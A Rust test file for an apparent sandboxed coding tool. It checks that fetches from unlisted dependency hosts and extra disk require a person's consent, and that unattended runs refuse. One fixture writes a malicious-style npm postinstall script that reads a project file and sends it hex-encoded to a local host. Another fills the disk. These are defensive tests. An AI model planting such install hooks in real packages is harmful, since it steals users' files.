//! What a person may allow beyond the bounds: a host for dependencies, a host for their scripts, more
//! disk. Asked at a terminal, once; where nobody is, it is refused, and nothing waits.

use std::path::Path;

use gavel_domain::{InstallDecided, InstallRequest, QuestionAnswered, VerifyFinished};
use gavel_testkit::git;

use crate::attacks::install::{README, Registry, TEST, packed, studio_with};
use crate::bench::{Ended, run_id};
use crate::product_hot::project;
use crate::seen::Seen;
use crate::studio::Studio;
use crate::terminal::Terminal;

const IDEA: &str = "fix the typos in README.md";
const SECOND: &str = "01890a5d-ac96-774b-bcce-b302099a8058";
const THIRD: &str = "01890a5d-ac96-774b-bcce-b302099a8059";

/// A project with one dependency that lies on a host of its own.
pub(crate) fn with_archive(studio: &Studio, host: &Registry) -> std::path::PathBuf {
    let manifest = format!(
        r#"{{"name":"demo","version":"1.0.0","scripts":{{"test":"node --test"}},"dependencies":{{"left":"{}/left.tgz"}}}}"#,
        host.url
    );
    let files = [
        ("package.json", manifest.as_str()),
        (".npmrc", "fetch-retries=0\n"),
        ("README.md", README),
        ("left.test.js", TEST),
        (".gitignore", "node_modules\n"),
        (
            "gavel.toml",
            "[project]\nid = \"01890a5d-ac96-774b-bcce-b302099a8001\"\n",
        ),
    ];
    project(studio, &files)
}

fn attended(studio: &Studio, run: &str) -> Terminal {
    let command = studio.command(&["start", IDEA, "--run", run]);
    Terminal::open(command, 100)
}

fn unattended(studio: &Studio, run: &str, place: &Path) -> Ended {
    let place = place.to_str().unwrap();
    studio.run(&["-C", place, "start", IDEA, "--yes", "--run", run])
}

fn decided(studio: &Studio, run: &str) -> Vec<InstallDecided> {
    Seen::of_run(&studio.bench, run.parse().unwrap()).facts()
}

#[test]
fn a_host_that_a_dependency_names_is_asked_about_once_for_its_repository() {
    let folder = tempfile::tempdir().unwrap();
    let archive = packed(folder.path());
    let (registry, host) = (Registry::start(archive.clone()), Registry::start(archive));
    let studio = studio_with(&registry);
    let place = with_archive(&studio, &host);
    let first = run_id().to_string();
    let mut terminal = attended(&studio, &first);
    let card = terminal.wait_for("1–2");
    let asked = format!("fetched from 127.0.0.1:{}?", host.port());
    assert!(card.contains(&asked), "{card}");
    assert!(card.contains("private network"), "{card}");
    assert_eq!(
        host.asked(),
        Vec::<String>::new(),
        "asked before anything is fetched"
    );
    terminal.press("yes\n");
    // The work is done and proven; a person has the last word.
    let shown = terminal.wait_for("1–");
    assert!(!shown.contains("fetched from"), "{shown}");
    assert!(host.asked().contains(&"/left.tgz".to_owned()), "{shown}");
    terminal.press("1\n");
    let (code, shown) = terminal.end();
    assert_eq!(code, Some(0), "{shown}");
    let [one] = decided(&studio, &first).try_into().unwrap();
    let InstallDecided {
        request,
        allowed,
        by,
        ..
    } = one;
    let wanted = InstallRequest::Host {
        host: "127.0.0.1".to_owned(),
        port: host.port(),
    };
    assert_eq!((request, allowed), (wanted, true));
    assert_ne!(by, gavel_domain::Speaker::ENGINE);
    // Nobody is there any more, and the answer still counts here.
    let ended = unattended(&studio, SECOND, &place);
    assert_eq!(ended.code, Some(0), "{ended:?}");
    assert_eq!(decided(&studio, SECOND), []);
    // A copy of the project has its id, and nobody's word.
    let copy = studio.bench.folder().join("copy");
    git(&place, &["clone", "--quiet", ".", copy.to_str().unwrap()]);
    let before = host.asked().len();
    let ended = unattended(&studio, THIRD, &copy);
    assert_eq!(host.asked().len(), before, "{ended:?}");
    let facts = decided(&studio, THIRD);
    assert!(
        facts.iter().all(|fact| !fact.allowed) && !facts.is_empty(),
        "{facts:?}"
    );
}

#[test]
fn a_host_that_a_person_refused_is_not_asked_about_again() {
    let folder = tempfile::tempdir().unwrap();
    let archive = packed(folder.path());
    let (registry, host) = (Registry::start(archive.clone()), Registry::start(archive));
    let studio = studio_with(&registry);
    with_archive(&studio, &host);
    for (run, asked) in [(run_id().to_string(), true), (SECOND.to_owned(), false)] {
        let mut terminal = attended(&studio, &run);
        if asked {
            terminal.wait_for("fetched from");
            terminal.wait_for("1–2");
            terminal.press("no\n");
        }
        // The tests cannot be run, which a person hears about.
        let shown = terminal.wait_for("The change is not done. What now?");
        assert!(!shown.contains("fetched from 127"), "{shown}");
        terminal.wait_for(" › ");
        terminal.press("3\n");
        drop(terminal.end());
    }
    assert_eq!(host.asked(), Vec::<String>::new());
}

#[test]
fn where_nobody_is_a_host_is_refused_and_said_and_nothing_waits() {
    let folder = tempfile::tempdir().unwrap();
    let archive = packed(folder.path());
    let (registry, host) = (Registry::start(archive.clone()), Registry::start(archive));
    let studio = studio_with(&registry);
    with_archive(&studio, &host);
    let ended = studio.run(&["start", IDEA, "--run", &run_id().to_string()]);
    assert_eq!(host.asked(), Vec::<String>::new(), "{ended:?}");
    let seen = studio.look();
    let answers = seen.facts::<QuestionAnswered>();
    assert!(
        answers.first().is_some_and(|answer| answer.assumed),
        "{answers:?}"
    );
    let shown = studio.run(&["review"]);
    let told = format!("127.0.0.1:{} was refused", host.port());
    assert!(shown.stdout.contains(&told), "{shown:?} {ended:?}");
}

/// Downloads by the proxy of its environment, with what it finds of the project in the address.
pub(crate) fn downloads(files: &Registry) -> String {
    format!(
        "const fs = require('fs');\nlet saw = '';\n\
         try {{ saw = fs.readFileSync('../../README.md').toString('hex'); }} catch (error) {{ saw = error.code; }}\n\
         const proxy = new URL(process.env.HTTP_PROXY || 'http://127.0.0.1:1');\n\
         require('http').get({{ host: proxy.hostname, port: proxy.port, path: '{}/' + saw, agent: false }}, (answer) => {{\n\
         \x20 answer.resume();\n  answer.on('end', () => process.exit(answer.statusCode === 200 ? 0 : 5));\n\
         }}).on('error', () => process.exit(6));\n",
        files.url
    )
}

#[test]
fn a_script_of_a_dependency_gets_the_host_that_a_person_allowed_and_nothing_of_the_project() {
    let files = Registry::start(Vec::new());
    let folder = tempfile::tempdir().unwrap();
    let package = folder.path().join("package");
    std::fs::create_dir_all(&package).unwrap();
    std::fs::write(package.join("get.js"), downloads(&files)).unwrap();
    let script = r#","scripts":{"postinstall":"node get.js"},"hasInstallScript":true"#;
    let archive = crate::attacks::install::packed_with(folder.path(), script);
    let registry = Registry::start_with(archive, script);
    let studio = studio_with(&registry);
    let manifest = r#"{"name":"demo","version":"1.0.0","scripts":{"test":"node --test"},"dependencies":{"left":"1.0.0"}}"#;
    let files_of_project = [
        ("package.json", manifest),
        ("README.md", README),
        ("left.test.js", TEST),
        (".gitignore", "node_modules\n"),
    ];
    let place = project(&studio, &files_of_project);
    // Nobody is there: the script fails, which is told, and the tests go on.
    let ended = unattended(&studio, THIRD, &place);
    assert_eq!(ended.code, Some(0), "{ended:?}");
    assert_eq!(files.asked(), Vec::<String>::new());
    let first = run_id().to_string();
    let mut terminal = attended(&studio, &first);
    let card = terminal.wait_for("1–2");
    let asked = format!("talk to 127.0.0.1:{}", files.port());
    assert!(
        card.contains(&asked) && card.contains("left@1.0.0"),
        "{card}"
    );
    terminal.press("yes\n");
    terminal.wait_for("1–");
    terminal.press("1\n");
    let (code, shown) = terminal.end();
    assert_eq!(code, Some(0), "{shown}");
    let seen = files.asked();
    assert!(
        !seen.is_empty()
            && seen
                .iter()
                .all(|path| path == "/EACCES" || path == "/ENOENT"),
        "{seen:?}"
    );
    let facts = studio.look().facts::<VerifyFinished>();
    let last = facts.last().unwrap();
    assert!(
        last.install.iter().all(|step| step.refused.is_empty()),
        "{last:?}"
    );
}

const FILLS: &str = "import os, time, unittest\n\n\nclass Fill(unittest.TestCase):\n    def test_fill(self):\n        \
    os.makedirs('target', exist_ok=True)\n        for n in range(24):\n            \
    open(f'target/{n}', 'wb').write(os.urandom(1 << 20))\n        time.sleep(3)\n";

pub(crate) fn filling(studio: &Studio) {
    let files = [
        ("README.md", README),
        ("test_fill.py", FILLS),
        (".gitignore", "target\n"),
    ];
    project(studio, &files);
}

pub(crate) const CAP: [&str; 2] = ["-c", "sandbox.disk_mib=16"];

#[test]
fn a_person_may_allow_more_disk_for_the_run() {
    let studio = Studio::offline();
    filling(&studio);
    let id = run_id().to_string();
    let words = [&CAP[..], &["start", IDEA, "--run", &id]].concat();
    let mut terminal = Terminal::open(studio.command(&words), 100);
    let card = terminal.wait_for("1–2");
    assert!(card.contains("ended at the disk cap"), "{card}");
    assert!(card.contains("more than 16 MiB"), "{card}");
    terminal.press("1\n");
    let shown = terminal.wait_for("1–");
    assert!(!shown.contains("disk cap"), "{shown}");
    terminal.press("1\n");
    let (code, shown) = terminal.end();
    assert_eq!(code, Some(0), "{shown}");
    let facts = Seen::of(&studio.bench).facts::<VerifyFinished>();
    let reasons: Vec<&str> = facts.iter().map(|fact| fact.reason.as_str()).collect();
    assert_eq!(reasons.first(), Some(&"disk_cap"), "{reasons:?}");
    let more = reasons.iter().skip(1);
    assert!(
        reasons.len() > 1 && more.clone().all(|reason| *reason == "all_passed"),
        "{reasons:?}"
    );
}

#[test]
fn where_nobody_is_the_cap_stays_as_it_is() {
    let studio = Studio::offline();
    filling(&studio);
    let id = run_id().to_string();
    let ended = studio.run(&[&CAP[..], &["start", IDEA, "--yes", "--run", &id]].concat());
    let facts = Seen::of(&studio.bench).facts::<VerifyFinished>();
    assert!(!facts.is_empty(), "{ended:?}");
    assert!(
        facts.iter().all(|fact| fact.reason == "disk_cap"),
        "{facts:?}"
    );
}
